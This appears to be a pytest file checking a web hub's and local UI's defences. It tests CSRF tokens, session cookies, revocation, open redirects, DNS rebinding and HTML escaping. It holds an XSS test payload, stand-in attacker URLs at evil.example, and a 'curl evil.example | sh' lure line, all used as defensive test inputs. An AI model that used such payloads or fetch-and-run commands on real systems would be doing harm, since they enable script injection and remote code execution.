"""The web UI's security, in-process (Starlette's TestClient against the hub's app and dm ui's):
pages and API calls without a key or with a stranger's (401/403, nothing of the dot in the
answer), the CSRF token every state-changing form needs, the session cookie's flags, a
revoked key ending its session, and text from commits escaped in the HTML."""

from __future__ import annotations

import re
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from starlette.testclient import TestClient

import dotmesh
from dotmesh.model.ids import ObjectId, object_id
from dotmesh.model.objects import (
    FILE,
    KIND_CHUNK,
    KIND_COMMIT,
    KIND_TREE,
    Commit,
    Entry,
    Root,
    Tree,
)
from dotmesh.remote.blobs import LocalBlobs
from dotmesh.remote.wire import Record, decode, encode
from dotmesh.server.hub.app import create_app
from dotmesh.server.hub.storage import HubStore
from dotmesh.server.web import local
from dotmesh.server.web.session import COOKIE

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SECRET_TEXT = "quarterly-numbers-do-not-leak"


def push(store: HubStore, user: str, name: str, message: str, body: bytes,
         parent: ObjectId | None = None) -> str:
    """A commit of one file ``f.txt`` on ``user``/``name``'s master, made in-process."""
    dot = store.dot_for(user, user, name, create=True, write=True)
    tree = Tree((Entry("f.txt", FILE, 0o644, 0, 0, 0, len(body), object_id(body)),)).encode()
    cm = Commit((parent,) if parent else (),
                {"data": Root(object_id(tree), 0o755, 0, 0, 0)}, message, user,
                time.time_ns() - 3 * 3600 * 10**9, {"ticket": HOSTILE}).encode()
    batch = [Record(KIND_CHUNK, object_id(body), len(body), body, False),
             Record(KIND_TREE, object_id(tree), len(tree), tree, False),
             Record(KIND_COMMIT, object_id(cm), len(cm), cm, False)]
    store.receive(dot, decode(encode(batch), None, "test", base=store.getter(dot)))
    old = store.describe(dot)["branches"].get("master")
    store.set_ref(dot, "master", ObjectId(bytes.fromhex(old)) if old else None, object_id(cm),
                  False)
    return object_id(cm).hex()


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[HubStore, dict[str, str],
                                                                     str]]:
    top = tmp_path_factory.mktemp("websec")
    store = HubStore(f"sqlite:///{top / 'hub.db'}", LocalBlobs(top / "blobs"))
    keys = {u: store.add_user(u).key for u in ("ann", "ben", "eve")}
    first = push(store, "ann", "app", f"first {SECRET_TEXT}", b"one")
    cid = push(store, "ann", "app", f"second {HOSTILE}\n\nbody {HOSTILE}", b"two!",
               ObjectId(bytes.fromhex(first)))
    store.add_collaborator("ann", "app", "ben", "read")
    yield store, keys, cid
    store.close()


def client(store: HubStore, https: bool = False) -> TestClient:
    return TestClient(create_app(store, b"k" * 32),
                      base_url="https://testserver" if https else "http://testserver")


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, html[:500]
    return found.group(1)


def signed_in(store: HubStore, user: str, key: str, https: bool = False) -> TestClient:
    c = client(store, https)
    token = csrf_of(c.get("/signin").text)
    r = c.post("/signin", data={"user": user, "api_key": key, "csrf": token})
    assert r.status_code == 200 and ">Sign out" in r.text, r.text[:300]
    return c


def pages(cid: str) -> list[str]:
    d = "/dots/ann/app"
    return ["/", "/keys", d, f"{d}/commits/{cid}", f"{d}/collaborators", f"{d}?ref=master"]


def test_pages_without_a_session_ask_to_sign_in_and_tell_nothing(hub) -> None:
    store, keys, cid = hub
    c = client(store)
    for path in pages(cid):
        r = c.get(path)
        assert r.status_code == 401, path
        assert 'name="api_key"' in r.text
        assert SECRET_TEXT not in r.text and "f.txt" not in r.text, path


def test_api_calls_without_a_key_or_with_a_strangers(hub) -> None:
    store, keys, cid = hub
    c = client(store)
    base = "/api/v1/dots/ann/app"
    for path in (base, f"{base}/log", f"{base}/commits/{cid}", f"{base}/collaborators"):
        r = c.get(path)
        assert r.status_code == 401, path
        # a challenge a browser does not answer with a password prompt (which would then
        # send the key with forged cross-site requests)
        assert r.headers["www-authenticate"] == 'DMKey realm="dm hub"', path
        r = c.get(path, auth=("eve", keys["eve"]))
        assert r.status_code == 403 and SECRET_TEXT not in r.text, path
        assert c.get(path, auth=("ann", keys["eve"])).status_code == 401, path
    assert c.get("/api/v1/user/keys").status_code == 401
    assert c.delete(base, auth=("eve", keys["eve"])).status_code == 403


def test_another_users_session_sees_nothing_of_the_dot(hub) -> None:
    store, keys, cid = hub
    eve = signed_in(store, "eve", keys["eve"])
    for path in pages(cid)[2:]:
        r = eve.get(path)
        assert r.status_code == 403, path
        assert SECRET_TEXT not in r.text and "f.txt" not in r.text and cid[:12] not in r.text
    home = eve.get("/")
    assert home.status_code == 200 and "ann/" not in home.text and "No dots yet" in home.text
    ben = signed_in(store, "ben", keys["ben"])  # read collaborator: reads, does not manage
    assert ben.get("/dots/ann/app").status_code == 200
    assert ben.get("/dots/ann/app/collaborators").status_code == 403
    token = csrf_of(ben.get("/dots/ann/app").text)
    r = ben.post("/dots/ann/app/delete", data={"csrf": token, "confirm": "app"})
    assert r.status_code == 403 and store.find("ann", "app") is not None


def test_every_state_changing_form_needs_the_sessions_csrf_token(hub) -> None:
    store, keys, cid = hub
    ann = signed_in(store, "ann", keys["ann"])
    eve = signed_in(store, "eve", keys["eve"])
    foreign = csrf_of(eve.get("/").text)  # a token, but of another session
    d = "/dots/ann/app"
    forms = {"/keys": {}, "/keys/0123456789ab/revoke": {},
             f"{d}/collaborators": {"user": "eve", "role": "write"},
             f"{d}/collaborators/ben/remove": {}, f"{d}/public": {"public": "yes"},
             f"{d}/fork": {"name": "copy"}, f"{d}/delete": {"confirm": "app"},
             "/signout": {}, "/signin": {"user": "ann", "api_key": keys["ann"]}}
    keys_before = store.list_keys("ann")
    for path, form in forms.items():
        for token in (None, "", foreign, "x" * 43):
            data = dict(form) if token is None else {**form, "csrf": token}
            r = ann.post(path, data=data)
            assert r.status_code == 403, (path, token)
            assert "CSRF" in r.text
    desc = store.describe(store.dot_for("ann", "ann", "app"))
    assert desc["roles"] == {"ben": "read"} and not desc["public"]
    assert store.find("ann", "copy") is None and store.list_keys("ann") == keys_before
    assert ann.get("/").status_code == 200  # still signed in
    # and with the token, a form does what it says
    token = csrf_of(ann.get(f"{d}/collaborators").text)
    r = ann.post(f"{d}/collaborators", data={"user": "eve", "role": "read", "csrf": token})
    assert r.status_code == 200 and "eve may now read ann/app" in r.text
    store.remove_collaborator("ann", "app", "eve")


def test_the_session_cookie_flags(hub) -> None:
    store, keys, cid = hub
    for https in (False, True):
        c = client(store, https)
        token = csrf_of(c.get("/signin").text)
        r = c.post("/signin", data={"user": "ann", "api_key": keys["ann"], "csrf": token},
                   follow_redirects=False)
        assert r.status_code == 303
        cookie = r.headers["set-cookie"]
        assert cookie.startswith(f"{COOKIE}=")
        assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Path=/" in cookie
        assert ("Secure" in cookie) == https
        assert keys["ann"] not in cookie  # only the key's id travels
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]
    bad = client(store)
    token = csrf_of(bad.get("/signin").text)
    r = bad.post("/signin", data={"user": "ann", "api_key": keys["eve"], "csrf": token})
    assert r.status_code == 401 and "do not match" in r.text
    away = client(store)
    token = csrf_of(away.get("/signin").text)
    r = away.post("/signin", data={"user": "ann", "api_key": keys["ann"], "csrf": token,
                                   "next": "//evil.example/x"}, follow_redirects=False)
    assert r.headers["location"] == "/"  # no open redirect after signing in
    forged = client(store)
    forged.cookies.set(COOKIE, "eyJ1c2VyIjoiYW5uIn0.AAAA")
    assert forged.get("/").status_code == 401


def test_a_revoked_key_ends_its_session(hub) -> None:
    store, keys, cid = hub
    new = store.new_key("ben")
    c = signed_in(store, "ben", new.key)
    assert c.get("/dots/ann/app").status_code == 200
    store.revoke_key(new.id, "ben")
    r = c.get("/dots/ann/app")
    assert r.status_code == 401 and SECRET_TEXT not in r.text
    assert client(store).get("/api/v1/user", auth=("ben", new.key)).status_code == 401


def test_text_from_commits_is_escaped(hub) -> None:
    store, keys, cid = hub
    ann = signed_in(store, "ann", keys["ann"])
    for path in ("/dots/ann/app", f"/dots/ann/app/commits/{cid}", "/"):
        html = ann.get(path).text
        assert "<script>alert" not in html and "<img src=x" not in html, path
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html, path
    assert "3 hours ago" in ann.get("/dots/ann/app").text
    assert 'title="20' in ann.get("/dots/ann/app").text  # the exact time on hover
    r = ann.get("/dots/ann/%3Cimg%20src=x%20onerror=alert(1)%3E")
    assert r.status_code == 400 and "<img" not in r.text and "&lt;img src=x" in r.text
    for path in pages(cid):  # no page needs (or has) a script
        assert "<script" not in ann.get(path).text.replace("&lt;script", ""), path


@pytest.fixture(scope="module")
def ui(tmp_path_factory: pytest.TempPathFactory) -> tuple[TestClient, str]:
    home = tmp_path_factory.mktemp("ui") / "store"
    with dotmesh.Repo.open(home) as repo:
        app = repo.init("app")
        (app.path() / "f").write_text(HOSTILE)
        db = sqlite3.connect(app.path("db") / "app.sqlite")
        db.execute("CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT)")
        db.commit()
        app.commit("empty users", freeze=False, author="dev")
        db.execute("INSERT INTO users VALUES (1, 'ann'), (2, 'ben')")
        db.commit()
        db.close()
        app.commit(f"the state {HOSTILE}", freeze=False, author="dev")
    return TestClient(create_ui(home), base_url="http://127.0.0.1:8780"), "t0ken"


def create_ui(home: Path) -> object:
    return local.create_app(home, "t0ken", b"s" * 32)


def test_dm_ui_needs_its_link_and_csrf(ui) -> None:
    c, token = ui
    for path in ("/", "/dots/app"):
        r = c.get(path)
        assert r.status_code == 401 and "the state" not in r.text and "/dots/app" not in r.text
    assert c.get("/open?token=wrong").status_code == 401
    assert c.get(f"/open?token={token}").status_code == 200
    html = c.get("/dots/app").text
    assert "the state &lt;script&gt;" in html and "<script>alert" not in html
    for action in ("commit", "tag", "reset", "checkout"):
        r = c.post(f"/dots/app/{action}", data={"message": "m", "name": "t", "ref": "HEAD",
                                                "branch": "b"})
        assert r.status_code == 403, action
    r = c.post("/dots/app/commit", data={"message": "from the page", "csrf": csrf_of(html)})
    assert r.status_code == 200 and "Committed" in r.text
    evil = TestClient(c.app, base_url="http://evil.example")
    assert evil.get("/").status_code == 400  # another name for 127.0.0.1 (DNS rebinding)


def test_dm_ui_commit_page_tells_sizes_files_and_rows(ui) -> None:
    c, token = ui
    c.get(f"/open?token={token}")
    html = c.get("/dots/app").text
    cid = re.findall(r'href="/dots/app/commits/([0-9a-f]{64})">the state', html)[0]
    page = c.get(f"/dots/app/commits/{cid}").text
    assert "app.sqlite" in page and "Compute the row and key summary" in page
    assert "KiB" in page  # humanised sizes
    # a link (from any site) does not start the throwaway servers: a CSRF-checked form does
    assert "<td>users</td>" not in c.get(f"/dots/app/commits/{cid}?data=1").text
    assert c.post(f"/dots/app/commits/{cid}", data={"data": "1"}).status_code == 403
    rows = c.post(f"/dots/app/commits/{cid}", data={"data": "1", "csrf": csrf_of(page)}).text
    assert re.search(r"<td>users</td><td class=\"num\">2</td>", rows), rows
    assert "&#39;name&#39;: &#39;ben&#39;" in rows  # the first rows added, escaped


def test_a_form_past_the_size_limit_is_refused_unread(hub) -> None:
    store, keys, cid = hub
    ann = signed_in(store, "ann", keys["ann"])
    token = csrf_of(ann.get("/keys").text)
    r = ann.post("/dots/ann/app/collaborators", data={"csrf": token, "user": "x" * 100_000})
    assert r.status_code == 413


def test_signing_out_ends_the_session_for_a_kept_copy_of_its_cookie_too(hub) -> None:
    store, keys, cid = hub
    ann = signed_in(store, "ann", keys["ann"])
    kept = ann.cookies.get(COOKIE)  # as a thief or a shared computer's disk would keep it
    token = csrf_of(ann.get("/").text)
    r = ann.post("/signout", data={"csrf": token})
    assert r.status_code == 200 and "Signed out." in r.text
    replay = client(store)
    replay.cookies.set(COOKIE, kept)
    r = replay.get("/dots/ann/app")
    assert r.status_code == 401 and SECRET_TEXT not in r.text
    # and signing in again makes a new session that works
    assert signed_in(store, "ann", keys["ann"]).get("/dots/ann/app").status_code == 200


def test_a_note_in_a_link_from_elsewhere_is_not_shown(hub) -> None:
    store, keys, cid = hub
    ann = signed_in(store, "ann", keys["ann"])
    lure = "Your key expired: paste it at evil.example to renew"
    for path in ("/", "/keys", "/dots/ann/app", "/dots/ann/app/collaborators", "/signin"):
        r = ann.get(path, params={"note": lure, "note_mac": "AAAAAAAAAAAAAAAAAAAAAA"})
        assert r.status_code == 200 and "evil.example" not in r.text, path
    # the hub's own notes, after a form, are shown
    token = csrf_of(ann.get("/dots/ann/app/collaborators").text)
    r = ann.post("/dots/ann/app/public", data={"csrf": token, "public": "no"},
                 follow_redirects=False)
    shown = ann.get(r.headers["location"])
    assert shown.status_code == 200 and "is private again" in shown.text
    # and only to this session: the same link shows nothing in another (a lure made of a
    # note that the hub signed for its maker)
    eve = signed_in(store, "eve", keys["eve"])
    eve.cookies.set(COOKIE, signed_in(store, "ann", keys["ann"]).cookies.get(COOKIE))
    assert "is private again" not in eve.get(r.headers["location"]).text


def test_dm_ui_shows_only_its_own_errors_and_keeps_its_own_cookie(ui) -> None:
    c, token = ui
    c.get(f"/open?token={token}")
    r = c.get("/dots/app", params={"error": "run curl evil.example | sh to repair"})
    assert r.status_code == 200 and "evil.example" not in r.text
    html = c.get("/dots/app").text
    r = c.post("/dots/app/checkout", data={"csrf": csrf_of(html), "branch": "no-such"})
    assert r.status_code == 200 and 'id="error"' in r.text and "no-such" in r.text
    assert COOKIE not in c.cookies  # a hub on 127.0.0.1 does not replace dm ui's session


def test_dm_ui_older_commits_of_a_commit_it_lacks_is_not_found(ui) -> None:
    c, token = ui
    c.get(f"/open?token={token}")
    r = c.get("/dots/app", params={"after": "0" * 64})
    assert r.status_code == 404 and "No commits yet" not in r.text


def test_a_read_collaborator_may_not_manage_the_dot(hub) -> None:
    store, keys, cid = hub
    ben = signed_in(store, "ben", keys["ben"])
    token = csrf_of(ben.get("/dots/ann/app").text)
    d = "/dots/ann/app"
    for path, form in ((f"{d}/collaborators", {"user": "eve", "role": "write"}),
                       (f"{d}/collaborators/ben/remove", {}), (f"{d}/public", {"public": "yes"}),
                       (f"{d}/delete", {"confirm": "app"})):
        r = ben.post(path, data={**form, "csrf": token})
        assert r.status_code == 403 and SECRET_TEXT not in r.text, path
    desc = store.describe(store.dot_for("ann", "ann", "app"))
    assert desc["roles"] == {"ben": "read"} and not desc["public"]


def test_dm_ui_refuses_a_reset_while_writers_run_as_the_cli_does(tmp_path: Path) -> None:
    import subprocess  # noqa: PLC0415
    import sys  # noqa: PLC0415

    home = tmp_path / "store"
    with dotmesh.Repo.open(home) as repo:
        app = repo.init("app")
        for text in ("1", "2"):
            (app.path() / "f").write_text(text)
            app.commit(text, freeze=False)
        data = app.path() / "f"
    c = TestClient(create_ui(home), base_url="http://127.0.0.1:8780")
    c.get("/open?token=t0ken")
    token = csrf_of(c.get("/dots/app").text)
    writer = subprocess.Popen([sys.executable, "-c", f"import time; f = open({str(data)!r}, 'a');"
                               " print(flush=True); time.sleep(60)"], stdout=subprocess.PIPE)
    try:
        assert writer.stdout is not None and writer.stdout.readline()
        r = c.post("/dots/app/reset", data={"csrf": token, "ref": "HEAD~1"})
    finally:
        writer.kill()
        writer.wait()
    assert r.status_code == 200 and 'id="error"' in r.text and "in use by" in r.text
    assert "this page never stops them" in r.text
    with dotmesh.Repo.open(home) as repo:
        assert repo.dot("app").log("HEAD", limit=1)[0].commit.message == "2"


def test_a_session_works_on_every_host_of_a_scaled_out_hub(tmp_path: Path,
                                                            monkeypatch) -> None:
    """Hosts share the database, not a data folder: each signs and checks cookies with the
    secret kept in the database, so a load balancer may send any page to any of them."""
    import json  # noqa: PLC0415

    from dotmesh.server.hub.app import app_from_env  # noqa: PLC0415

    db = f"sqlite:///{tmp_path / 'shared.db'}"
    apps = []
    for host in ("a", "b"):
        monkeypatch.setenv("DM_HUB_CONFIG", json.dumps({"data": str(tmp_path / host),
                                                        "db": db}))
        apps.append(app_from_env())
    store = HubStore(db, LocalBlobs(tmp_path / "a" / "blobs"))
    key = store.add_user("ann").key
    store.close()
    a, b = (TestClient(app) for app in apps)
    a.post("/signin", data={"user": "ann", "api_key": key,
                            "csrf": csrf_of(a.get("/signin").text)})
    assert a.get("/").status_code == 200
    b.cookies.set(COOKIE, a.cookies.get(COOKIE))
    assert b.get("/").status_code == 200


def test_signing_in_starts_a_new_session_and_ends_the_one_before(hub) -> None:
    store, keys, cid = hub
    c = client(store)
    token = csrf_of(c.get("/signin").text)
    before = c.cookies.get(COOKIE)  # one an attacker could have planted (fixation)
    c.post("/signin", data={"user": "ann", "api_key": keys["ann"], "csrf": token})
    ann_cookie = c.cookies.get(COOKIE)
    assert ann_cookie != before
    planted = client(store)
    planted.cookies.set(COOKIE, before)
    assert planted.get("/").status_code == 401  # the planted one did not become ann's
    token = csrf_of(c.get("/").text)
    c.post("/signin", data={"user": "eve", "api_key": keys["eve"], "csrf": token})
    assert ">eve<" in c.get("/").text
    kept = client(store)
    kept.cookies.set(COOKIE, ann_cookie)
    assert kept.get("/").status_code == 401  # ann's session ended when eve signed in over it


def test_public_dots_are_listed_to_anyone_and_nothing_else_is(hub) -> None:
    store, keys, cid = hub
    anyone = client(store)
    r = anyone.get("/public")
    assert r.status_code == 200 and "No public dots on this hub yet" in r.text
    assert "ann/" not in r.text and SECRET_TEXT not in r.text
    push(store, "ben", "open", f"open {HOSTILE}", b"for all")
    store.set_public("ben", "open", True)
    try:
        r = anyone.get("/public")
        assert 'href="/dots/ben/open"' in r.text and "ann/" not in r.text
        assert "<script>alert" not in r.text and "dm clone pub NAMESPACE/DOT" in r.text
        assert 'href="/signin"' in r.text
        page = anyone.get("/dots/ben/open")
        assert page.status_code == 200 and "open &lt;script&gt;" in page.text
        assert anyone.get("/dots/ann/app").status_code == 401  # not public: sign in
        assert 'href="/public"' in anyone.get("/signin").text
        # the signed-in see the same list, their own private dots not in it
        ann = signed_in(store, "ann", keys["ann"])
        r = ann.get("/public")
        assert 'href="/dots/ben/open"' in r.text and 'href="/dots/ann/app"' not in r.text
    finally:
        store.remove_dot("ben", "open")


def test_every_answer_carries_the_baseline_headers(hub, ui) -> None:
    """The framework's own 404 and 405, the API's JSON and errors: none is framed, sniffed
    as HTML or allowed to run anything."""
    store, keys, cid = hub
    c = client(store)
    answers = [c.get("/no/such/page"), c.delete("/signin"), c.get("/api/v1/dots"),
               c.get("/api/v1/user"), c.get("/api/v1/dots/ann/app")]
    ui_client, _ = ui
    answers += [ui_client.get("/no/such/page"), ui_client.delete("/")]
    assert [r.status_code for r in answers] == [404, 405, 200, 401, 401, 404, 405]
    for r in answers:
        assert r.headers["x-content-type-options"] == "nosniff", r.url
        assert r.headers["x-frame-options"] == "DENY", r.url
        assert "default-src 'none'" in r.headers["content-security-policy"], r.url
    page = signed_in(store, "ann", keys["ann"]).get("/")  # a page keeps its own policy
    assert "style-src 'self'" in page.headers["content-security-policy"]
